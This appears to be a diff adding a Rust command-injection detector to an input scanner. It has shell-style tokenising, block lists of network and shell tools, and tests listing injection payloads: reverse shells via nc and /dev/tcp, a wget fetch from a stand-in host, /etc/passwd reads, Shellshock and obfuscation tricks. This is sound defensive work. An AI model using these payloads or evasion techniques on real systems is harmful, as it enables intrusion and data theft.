@@ -1,0 +1,405 @@
+//! Command injection: would the value, pasted into a shell command line,
+//! run a command of its own?
+//!
+//! The value is read as a POSIX shell (and Windows `cmd`) would read it as an
+//! argument: bare, or after the single or double quote it closes. What it
+//! must do to be an attack is reach a command position (after `;`, `|`,
+//! `&&`, a newline, inside `$( )` or backticks) and put a command there: a
+//! path to a program, or the name of one with what that program takes
+//! (options, paths, addresses). Quotes, backslashes, `^`, `$@` and `${IFS}`
+//! inside words are undone first, as the shell undoes them. `rock & roll`,
+//! `AT&T` and `ping pong table` put no command anywhere.
+
+use super::Hit;
+
+pub fn inspect(value: &str) -> Option<Hit> {
+    if !value.bytes().any(|b| b";|&\n`$(){}<>'\"".contains(&b)) {
+        return None;
+    }
+    if shellshock(value) {
+        return Some(Hit {
+            score: 5,
+            context: "environment variable (Shellshock)",
+            at: 0,
+        });
+    }
+    let mut best: Option<Hit> = None;
+    let mut consider = |hit: Option<Hit>| {
+        if let Some(hit) = hit {
+            if best.as_ref().is_none_or(|b| hit.score > b.score) {
+                best = Some(hit);
+            }
+        }
+    };
+    consider(scan(value, 0, "shell argument"));
+    for (quote, context) in [('\'', "single-quoted shell argument"), ('"', "double-quoted shell argument")] {
+        if let Some(at) = value.find(quote) {
+            consider(scan(value, at + 1, context));
+        }
+    }
+    best
+}
+
+/// `() { :; };` at the start of a header value defined a function in bash
+/// before 4.3, and ran what followed.
+fn shellshock(value: &str) -> bool {
+    let compact: String = value.chars().filter(|c| !c.is_whitespace()).take(6).collect();
+    compact.starts_with("(){")
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum Piece {
+    /// A word as the shell passes it on, quotes and escapes undone.
+    Word(String),
+    /// `;`, `|`, `&`, `&&`, `||`, a newline, or a substitution's start:
+    /// what follows is a command.
+    Separator,
+    /// `` ` `` opening a substitution after a plain word (`run `ls` here`):
+    /// prose with inline code more often than an attack.
+    ProseBacktick,
+    /// `>`, `<`, `2>&1`.
+    Redirect,
+    /// `)` or a closing backtick.
+    Close,
+}
+
+/// Reads `value[start..]` as shell and scores the commands it reaches.
+fn scan(value: &str, start: usize, context: &'static str) -> Option<Hit> {
+    let pieces = pieces(&value[start..]);
+    let mut best: Option<u8> = None;
+    // A value that is a whole command line, for apps that run what they are
+    // sent: a program with real arguments (`cat /etc/passwd`, not `python jobs`).
+    if start == 0 {
+        if let [Piece::Word(program), rest @ ..] = pieces.as_slice() {
+            let argument = matches!(rest.first(), Some(Piece::Word(_))) && takes_arguments(rest);
+            best = command_score(program, rest).filter(|_| argument).map(|s| s.min(4));
+        }
+    }
+    let mut command_position = false;
+    let mut prose = false;
+    let mut at = start;
+    for (index, piece) in pieces.iter().enumerate() {
+        match piece {
+            Piece::Separator => {
+                command_position = true;
+                prose = false;
+            }
+            Piece::ProseBacktick => {
+                command_position = true;
+                prose = true;
+            }
+            Piece::Word(word) if command_position => {
+                command_position = false;
+                let score = command_score(word, &pieces[index + 1..]).map(|s| if prose { s.min(3) } else { s });
+                if score > best {
+                    best = score;
+                    at = start;
+                }
+            }
+            _ => command_position = false,
+        }
+    }
+    best.map(|score| Hit { score, context, at })
+}
+
+/// How surely `word`, in command position and followed by `rest`, runs a
+/// program: a path to one, a program that is not also a word of English,
+/// or a program that is, given what it takes.
+fn command_score(word: &str, rest: &[Piece]) -> Option<u8> {
+    let name = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
+    let name = name.strip_suffix(".exe").unwrap_or(&name);
+    let is_path = word.starts_with('/')
+        || word.starts_with("./")
+        || word.starts_with("~/")
+        || windows_path(word)
+        || word.starts_with("usr/bin/")
+        || word.starts_with("bin/");
+    if is_path && (PROGRAMS.contains(&name) || ENGLISH_PROGRAMS.contains(&name) || word.starts_with("/dev/tcp/")) {
+        return Some(5);
+    }
+    if is_path && (word.starts_with("/bin/") || word.starts_with("/usr/") || word.starts_with("/sbin/")) {
+        return Some(5);
+    }
+    if PROGRAMS.contains(&name) {
+        return Some(5);
+    }
+    if ENGLISH_PROGRAMS.contains(&name) && takes_arguments(rest) {
+        return Some(5);
+    }
+    None
+}
+
+/// What follows a program name reads as its arguments, not as prose: the
+/// line ends there, or goes on with an option, a path, an address, a
+/// redirect, or a number that ends the line (`sleep 5`).
+fn takes_arguments(rest: &[Piece]) -> bool {
+    // `echo "..." > shell.php`: output sent to a file.
+    if rest
+        .iter()
+        .take_while(|p| **p != Piece::Separator)
+        .any(|p| *p == Piece::Redirect)
+    {
+        return true;
+    }
+    match rest.first() {
+        None | Some(Piece::Separator | Piece::Redirect | Piece::Close | Piece::ProseBacktick) => true,
+        Some(Piece::Word(next)) => {
+            let number = next.bytes().all(|b| b.is_ascii_digit() || b == b'.');
+            next.starts_with('-')
+                || next.starts_with('/')
+                || next.starts_with("./")
+                || next.starts_with("../")
+                || next.starts_with('~')
+                || next.starts_with('$')
+                || windows_path(next)
+                || next.contains("://")
+                || (number && !matches!(rest.get(1), Some(Piece::Word(_))))
+        }
+    }
+}
+
+fn windows_path(word: &str) -> bool {
+    let bytes = word.as_bytes();
+    // `C:\Windows` (or `C:Windows` once a POSIX shell ate the backslash).
+    (bytes.len() >= 2 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':')
+        || word.starts_with("\\\\")
+        || word.starts_with('%')
+}
+
+/// The value split as the shell splits it.
+fn pieces(text: &str) -> Vec<Piece> {
+    let bytes = text.as_bytes();
+    let mut pieces = Vec::new();
+    let mut word = String::new();
+    let mut in_backticks = false;
+    let mut i = 0;
+    let flush = |word: &mut String, pieces: &mut Vec<Piece>| {
+        if !word.is_empty() {
+            pieces.push(Piece::Word(std::mem::take(word)));
+        }
+    };
+    while i < bytes.len() {
+        let byte = bytes[i];
+        match byte {
+            b' ' | b'\t' | b'\r' | 0x0B | 0x0C => flush(&mut word, &mut pieces),
+            b'\n' | b';' | b'&' | b'|' => {
+                flush(&mut word, &mut pieces);
+                // `2>&1`: a redirect, not a separator.
+                if byte == b'&' && pieces.last() == Some(&Piece::Redirect) {
+                    i += 1;
+                    continue;
+                }
+                pieces.push(Piece::Separator);
+                while matches!(bytes.get(i + 1), Some(b'&' | b'|')) {
+                    i += 1;
+                }
+            }
+            b'`' => {
+                let after_prose = !in_backticks && !word.is_empty() || matches!(pieces.last(), Some(Piece::Word(_)));
+                flush(&mut word, &mut pieces);
+                if in_backticks {
+                    pieces.push(Piece::Close);
+                } else if after_prose && !word_glued(bytes, i) {
+                    pieces.push(Piece::ProseBacktick);
+                } else {
+                    pieces.push(Piece::Separator);
+                }
+                in_backticks = !in_backticks;
+            }
+            b'$' if bytes.get(i + 1) == Some(&b'(') => {
+                flush(&mut word, &mut pieces);
+                pieces.push(Piece::Separator);
+                i += 1;
+            }
+            b'<' | b'>' if bytes.get(i + 1) == Some(&b'(') => {
+                flush(&mut word, &mut pieces);
+                pieces.push(Piece::Separator);
+                i += 1;
+            }
+            b')' => {
+                flush(&mut word, &mut pieces);
+                pieces.push(Piece::Close);
+            }
+            b'<' | b'>' => {
+                // `2>`: the descriptor belongs to the redirect.
+                if word.bytes().all(|b| b.is_ascii_digit()) {
+                    word.clear();
+                }
+                flush(&mut word, &mut pieces);
+                pieces.push(Piece::Redirect);
+                while matches!(bytes.get(i + 1), Some(b'>' | b'<')) {
+                    i += 1;
+                }
+            }
+            b'$' => i += skip_empty_expansion(&bytes[i..], &mut word, &mut pieces) - 1,
+            b'{' if word.is_empty() && brace_list(&text[i..]).is_some() => {
+                // `{cat,/etc/passwd}` expands to `cat /etc/passwd`.
+                let (items, used) = brace_list(&text[i..]).unwrap_or_default();
+                pieces.extend(items.into_iter().map(Piece::Word));
+                i += used - 1;
+            }
+            b'\'' | b'"' => {
+                // Quotes join their contents to the word, then vanish.
+                let close = memchr::memchr(byte, &bytes[i + 1..]).map_or(bytes.len(), |end| i + 1 + end);
+                word.push_str(&text[i + 1..close]);
+                i = close;
+            }
+            b'\\' => {
+                if let Some(next) = text[i + 1..].chars().next() {
+                    if next != '\n' {
+                        word.push(next);
+                    }
+                    i += next.len_utf8();
+                }
+            }
+            // `cmd` escapes: `w^h^o^a^m^i`.
+            b'^' => {}
+            _ => {
+                let c = text[i..].chars().next().unwrap_or('\u{FFFD}');
+                word.push(c);
+                i += c.len_utf8();
+                continue;
+            }
+        }
+        i += 1;
+    }
+    flush(&mut word, &mut pieces);
+    pieces
+}
+
+/// A backtick directly after a word character (`x`id``): no space, so not prose.
+fn word_glued(bytes: &[u8], at: usize) -> bool {
+    at > 0 && bytes[at - 1].is_ascii_alphanumeric()
+}
+
+/// `${IFS}`, `$IFS`, `$@`, `$*`, `$1`: expansions an attacker uses as empty
+/// strings or spaces. Others stay in the word. Returns the bytes used.
+fn skip_empty_expansion(bytes: &[u8], word: &mut String, pieces: &mut Vec<Piece>) -> usize {
+    let rest = &bytes[1..];
+    let ifs = |r: &[u8]| r.len() >= 3 && r[..3].eq_ignore_ascii_case(b"IFS");
+    match rest.first() {
+        Some(b'@' | b'*' | b'0'..=b'9') => 2,
+        Some(b'{') => {
+            let end = memchr::memchr(b'}', rest).map_or(rest.len(), |e| e + 1);
+            if ifs(&rest[1..]) {
+                if !word.is_empty() {
+                    pieces.push(Piece::Word(std::mem::take(word)));
+                }
+            }
+            1 + end
+        }
+        _ if ifs(rest) => {
+            if !word.is_empty() {
+                pieces.push(Piece::Word(std::mem::take(word)));
+            }
+            4
+        }
+        _ => {
+            word.push('$');
+            1
+        }
+    }
+}
+
+/// `{a,b,c}` at the start of a word: its items and the bytes used.
+fn brace_list(text: &str) -> Option<(Vec<String>, usize)> {
+    let end = text.find('}')?;
+    let inner = &text[1..end];
+    if !inner.contains(',') || inner.contains([' ', '{']) {
+        return None;
+    }
+    Some((inner.split(',').map(str::to_owned).collect(), end + 1))
+}
+
+/// Programs whose names are not words of English (or of prose generally),
+/// so naming one in command position is enough.
+const PROGRAMS: &[&str] = &[
+    "whoami", "uname", "ifconfig", "ipconfig", "netstat", "nslookup", "wget", "curl", "nc", "ncat", "netcat",
+    "socat", "telnet", "bash", "sh", "zsh", "ksh", "csh", "tcsh", "dash", "busybox", "python", "python2",
+    "python3", "perl", "ruby", "php", "node", "lua", "gawk", "xterm", "chmod", "chown", "passwd", "sudo",
+    "crontab", "nohup", "base64", "xxd", "hexdump", "uptime", "hostname", "printenv", "systeminfo", "tasklist",
+    "taskkill", "powershell", "pwsh", "cmd", "certutil", "bitsadmin", "mshta", "rundll32", "regsvr32", "wmic",
+    "schtasks", "ls", "pwd", "ps", "rm", "mkdir", "rmdir", "tftp", "ssh", "scp", "rsync", "grep", "egrep",
+    "xargs", "dig", "traceroute", "tracert", "useradd", "usermod", "mkfifo", "msfvenom", "getent", "lsof",
+    "ifup", "iptables", "killall", "pkill", "sysctl", "dmesg", "nmap", "ssh-keygen", "openssl", "awk", "sed",
+    "ver", "net1", "arp", "route", "cscript", "wscript", "vssadmin",
+];
+
+/// Programs named like words (`cat`, `sleep`, `ping`): in command position
+/// they count only with arguments.
+const ENGLISH_PROGRAMS: &[&str] = &[
+    "id", "cat", "echo", "sleep", "ping", "kill", "find", "sort", "head", "tail", "more", "less", "touch", "cut",
+    "type", "dir", "del", "copy", "start", "time", "date", "who", "set", "net", "env", "tee", "od", "wc", "file",
+    "which", "last", "w", "nl", "tac", "rev", "paste", "strings", "exec", "eval", "source", "export", "read",
+    "wait", "reg", "at", "move", "ren", "print", "mail", "finger", "host", "whois", "unzip", "tar", "zip",
+];
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn score(value: &str) -> u8 {
+        inspect(value).map_or(0, |hit| hit.score)
+    }
+
+    #[test]
+    fn commands_reached_from_an_argument_are_found() {
+        let missed: Vec<_> = [
+            ";id",
+            "; cat /etc/passwd",
+            "| whoami",
+            "&& ping -c 10 127.0.0.1",
+            "|| wget http://evil.example/x.sh",
+            "$(sleep 5)",
+            "`id`",
+            "x`whoami`",
+            "127.0.0.1\nid",
+            "';id;'",
+            "\";cat /etc/passwd;\"",
+            "\"$(id)\"",
+            ";cat${IFS}/etc/passwd",
+            ";c\\at /etc/passwd",
+            ";c'a't /etc/passwd",
+            ";{cat,/etc/passwd}",
+            "| /usr/bin/id",
+            "& dir C:\\",
+            "| type C:\\Windows\\win.ini",
+            "& w^h^o^a^m^i",
+            "() { :; }; /bin/bash -c 'id'",
+            ";sleep 5;",
+            "|nc -e /bin/sh 10.0.0.1 4444",
+            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "%0aid",
+        ]
+        .into_iter()
+        .filter(|attack| score(attack) < 5 && score(&attack.replace("%0a", "\n")) < 5)
+        .map(|attack| format!("{attack}: {:?}", inspect(attack)))
+        .collect();
+        assert!(missed.is_empty(), "missed:\n{}", missed.join("\n"));
+    }
+
+    #[test]
+    fn prose_with_shell_characters_passes() {
+        let blocked: Vec<_> = [
+            "rock & roll",
+            "AT&T",
+            "ping pong table",
+            "I love cats; cat food is great",
+            "tired; sleep 8 hours",
+            "Home | My Site",
+            "Tom & Jerry | cartoons",
+            "run `ls -la` to see the files",
+            "price $5 (approx)",
+            "a && b || c",
+            "Q&A: what's new?",
+            "fish & chips; mushy peas",
+            "<b>bold</b> & <i>italic</i>",
+            "meet me at 5; time flies",
+        ]
+        .into_iter()
+        .filter(|benign| score(benign) >= 5)
+        .map(|benign| format!("{benign}: {:?}", inspect(benign)))
+        .collect();
+        assert!(blocked.is_empty(), "blocked:\n{}", blocked.join("\n"));
+    }
+}
